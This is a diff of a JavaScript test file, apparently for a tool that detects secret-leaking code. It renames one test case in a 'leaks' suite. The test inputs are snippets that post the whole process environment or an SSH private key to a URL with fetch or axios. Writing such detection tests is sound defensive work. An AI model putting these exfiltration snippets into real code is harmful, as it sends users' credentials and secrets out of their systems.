@@ -80,7 +80,7 @@ describe('shells', () => {
 
 describe('leaks', () => {
   it.each([
-    ['the whole', 'fetch(u, { body: JSON.stringify(process.env) })'],
+    ['the whole environment', 'fetch(u, { body: JSON.stringify(process.env) })'],
     ['a spread', 'axios.post(u, { ...process.env })'],
     ['an alias', 'const e = process.env\nfetch(u, { body: JSON.stringify(e) })'],
     ['a key', 'axios.post(u, fs.readFileSync(home + "/.ssh/id_rsa"))'],
